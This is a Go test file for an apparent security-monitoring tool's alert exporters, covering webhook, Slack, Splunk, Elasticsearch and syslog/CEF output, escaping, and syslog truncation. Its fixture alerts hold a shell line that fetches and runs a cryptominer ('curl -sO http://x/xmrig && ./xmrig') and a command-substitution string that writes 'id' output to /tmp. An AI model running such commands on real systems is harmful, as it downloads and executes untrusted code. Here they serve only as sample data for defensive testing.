package export

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/vigil-sec/vigil/internal/event"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// alerts are the fixtures every payload is built from: a runtime alert with
// everything set, a control-plane alert, and a minimal one whose strings
// hold every character some format must escape.
func alerts() []event.Alert {
	t0 := time.Date(2026, 11, 22, 10, 0, 0, 123456789, time.UTC)
	return []event.Alert{{
		ID: "01JD0000000000000000000001", Rule: "runtime.drift-binary-executed",
		Title: "A drift binary was executed in a container", Severity: event.High,
		Tactic: "Execution", Techniques: []string{"T1204", "T1059"}, Status: event.StatusActive,
		FirstSeen: t0, LastSeen: t0.Add(90 * time.Second), Count: 3, Source: "sensor",
		Cluster: "prod-1", Node: "node-1", Namespace: "shop", Pod: "web-7d9f", Container: "web",
		ContainerID: "0f3c5a", Image: "nginx:1.27", Workload: "Deployment/shop/web",
		Labels: map[string]string{"app": "web"},
		Process: &event.Process{Pid: 4242, Ppid: 4200, UID: 33, Exe: "/tmp/xmrig",
			Args: []string{"/tmp/xmrig", "-o", "pool.example:3333"}, Cwd: "/tmp", UpperLayer: true, Drift: true,
			Parent:   &event.Lineage{Pid: 4200, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl -sO http://x/xmrig && ./xmrig"}},
			Ancestry: []event.Lineage{{Pid: 4200, Exe: "/bin/sh"}, {Pid: 4100, Exe: "/usr/sbin/php-fpm8.2"}}},
		Evidence:    map[string]any{"process.exe": "/tmp/xmrig"},
		Description: "A binary that is not part of the image ran.", Remediation: "Rebuild the image.",
	}, {
		ID: "01JD0000000000000000000002", Rule: "k8s.cluster-admin-binding", Title: "Cluster-admin role binding created",
		Severity: event.Medium, Tactic: "Privilege Escalation", Status: event.StatusActive,
		FirstSeen: t0, LastSeen: t0, Count: 1, Source: "audit", Cluster: "prod-1",
		User:     &event.User{Name: "alice@example.com", Groups: []string{"devs"}},
		Evidence: map[string]any{"binding": "evil"},
	}, {
		ID: "01JD0000000000000000000003", Rule: "test.escaping", Severity: event.Informational,
		Title:       `pipe | backslash \ equals = quote " bracket ] <b>&amp;</b> naïve ☃`,
		Status:      event.StatusActive,
		Namespace:   `ns"]\`,
		Pod:         "p=1|2",
		Description: "line one\nline two\r\nkey=value \\ end",
		Process:     &event.Process{Pid: 1, Exe: "/bin/sh", Args: []string{"sh", "-c", "echo `id` > /tmp/x"}},
	}}
}

// golden compares got with testdata/name, or rewrites it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test -update rewrites it):\ngot:\n%s\nwant:\n%s", name, got, want)
	}
}

func indent(t *testing.T, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := json.Indent(&out, b, "", "  "); err != nil {
		t.Fatalf("payload is not JSON: %v\n%s", err, b)
	}
	out.WriteByte('\n')
	return out.Bytes()
}

func TestPayloadGolden(t *testing.T) {
	as := alerts()

	b, err := webhookPayload(as)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "webhook.json", indent(t, b))
	var back []event.Alert
	if err := json.Unmarshal(b, &back); err != nil || len(back) != len(as) || back[2].Title != as[2].Title {
		t.Errorf("webhook payload does not decode back to the alerts: %v", err)
	}

	b, err = slackPayload(as)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "slack.json", indent(t, b))

	b, err = splunkPayload(as, "security")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "splunk.json", b)
	dec := json.NewDecoder(bytes.NewReader(b))
	for i := range as {
		var e struct {
			Sourcetype string
			Event      event.Alert
		}
		if err := dec.Decode(&e); err != nil || e.Sourcetype != "vigil:alert" || e.Event.ID != as[i].ID {
			t.Errorf("splunk event %d: %v %+v", i, err, e)
		}
	}

	b, err = bulkPayload(as, "vigil-alerts")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "elasticsearch.ndjson", b)
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	if len(lines) != 2*len(as) {
		t.Errorf("bulk body has %d lines, want %d", len(lines), 2*len(as))
	}
	for _, l := range lines {
		if !json.Valid([]byte(l)) {
			t.Errorf("bulk line is not JSON: %s", l)
		}
	}

	for _, format := range []string{"json", "cef"} {
		var all bytes.Buffer
		for _, a := range as {
			m, err := syslogMessage(a, format, 0)
			if err != nil {
				t.Fatal(err)
			}
			if bytes.ContainsAny(m, "\r\n") {
				t.Errorf("syslog %s message holds a line break: %q", format, m)
			}
			all.Write(m)
			all.WriteByte('\n')
		}
		golden(t, "syslog-"+format+".txt", all.Bytes())
	}
}

func TestCEFEscaping(t *testing.T) {
	line := cefLine(alerts()[2])
	for _, want := range []string{
		`|test.escaping|pipe \| backslash \\ equals = quote " bracket ] <b>&amp;</b> naïve ☃|1|`,
		`cs1=ns"]\\`, `cs2=p\=1|2`,
		`msg=line one\nline two\nkey\=value \\ end`,
		`flexString2=sh -c echo ` + "`id`" + ` > /tmp/x`,
	} {
		if !strings.Contains(line, want) {
			t.Errorf("CEF line lacks %s:\n%s", want, line)
		}
	}
	hdr := cefHeaderFields(line)
	want := []string{"CEF:0", "Vigil", "Vigil", version, "test.escaping", `pipe \| backslash \\ equals = quote " bracket ] <b>&amp;</b> naïve ☃`, "1"}
	if len(hdr) != 8 || strings.Join(hdr[:7], "\x00") != strings.Join(want, "\x00") {
		t.Errorf("CEF header fields %q, want %q + extension", hdr, want)
	}
}

// cefHeaderFields splits a CEF line on its first seven unescaped pipes.
func cefHeaderFields(line string) []string {
	var fields []string
	start := 0
	for i := 0; i < len(line) && len(fields) < 7; i++ {
		switch line[i] {
		case '\\':
			i++
		case '|':
			fields = append(fields, line[start:i])
			start = i + 1
		}
	}
	return append(fields, line[start:])
}

func TestSyslogHeader(t *testing.T) {
	a := alerts()[0]
	a.Rule = "runtime.a-rule-id-that-is-longer-than-thirty-two-characters"
	a.Node = "node with space"
	m, err := syslogMessage(a, "json", 0)
	if err != nil {
		t.Fatal(err)
	}
	want := `<34>1 2026-11-22T10:01:30.123456Z node_with_space vigil - runtime.a-rule-id-that-is-longer [vigil@32473 id="01JD0000000000000000000001"`
	if !strings.HasPrefix(string(m), want) {
		t.Errorf("header:\n got %s\nwant %s", m[:len(want)], want)
	}
	m, _ = syslogMessage(event.Alert{Severity: "bogus"}, "json", 0)
	if !strings.HasPrefix(string(m), `<38>1 - - vigil - - [vigil@32473 severity="bogus"] {`) {
		t.Errorf("minimal header: %s", m)
	}
}

// TestSyslogTruncation: a message over the UDP limit keeps to one datagram,
// valid UTF-8; a JSON body stays valid JSON by dropping bulky fields first.
func TestSyslogTruncation(t *testing.T) {
	a := alerts()[0]
	a.Evidence = map[string]any{"blob": strings.Repeat("é", 50000)}
	a.Description = strings.Repeat("x", 30000)
	orig := a.Process.Args[0]
	m, err := syslogMessage(a, "json", udpMax)
	if err != nil {
		t.Fatal(err)
	}
	if len(m) > udpMax || !utf8.Valid(m) {
		t.Fatalf("message of %d bytes, valid UTF-8 %v", len(m), utf8.Valid(m))
	}
	body := m[bytes.IndexByte(m, '{'):]
	var back event.Alert
	if err := json.Unmarshal(body, &back); err != nil {
		t.Fatalf("slimmed body is not JSON: %v", err)
	}
	if back.ID != a.ID || back.Evidence["truncated"] != true || back.Description != "" {
		t.Errorf("slimmed alert: %+v", back)
	}
	if a.Process.Args[0] != orig {
		t.Error("slimming changed the caller's alert")
	}

	// Even the slim form is too large: cut on a rune boundary.
	a.Process.Exe = strings.Repeat("☃", 40000)
	m, _ = syslogMessage(a, "json", udpMax)
	if len(m) > udpMax || !utf8.Valid(m) {
		t.Errorf("hard cut: %d bytes, valid UTF-8 %v", len(m), utf8.Valid(m))
	}
	// CEF: never end on a lone escaping backslash.
	a.Description = strings.Repeat(`\`, 70000)
	m, _ = syslogMessage(a, "cef", udpMax)
	if len(m) > udpMax || !utf8.Valid(m) {
		t.Errorf("cef cut: %d bytes", len(m))
	}
	if n := len(m) - len(bytes.TrimRight(m, `\`)); n%2 != 0 {
		t.Errorf("cef cut ends on %d backslashes", n)
	}
}

func FuzzSyslogMessage(f *testing.F) {
	f.Add("title", `a\b=c|d`, 200)
	f.Add("☃☃☃", "\\\\\\", 50)
	f.Fuzz(func(t *testing.T, title, desc string, limit int) {
		if limit < 0 || limit > 1<<16 {
			return
		}
		a := event.Alert{ID: "x", Rule: title, Title: title, Description: desc, Namespace: desc, Severity: event.Low}
		for _, format := range []string{"json", "cef"} {
			m, err := syslogMessage(a, format, limit)
			if err != nil {
				t.Fatal(err)
			}
			head, _ := syslogMessage(a, format, 1) // the header alone
			if limit > 0 && len(m) > max(limit, len(head)) {
				t.Fatalf("%s message of %d bytes over limit %d", format, len(m), limit)
			}
			if bytes.ContainsAny(m, "\n\r") {
				t.Fatalf("%s message with a line break: %q", format, m)
			}
			if utf8.ValidString(title) && utf8.ValidString(desc) && !utf8.Valid(m) {
				t.Fatalf("%s message is not UTF-8", format)
			}
		}
	})
}
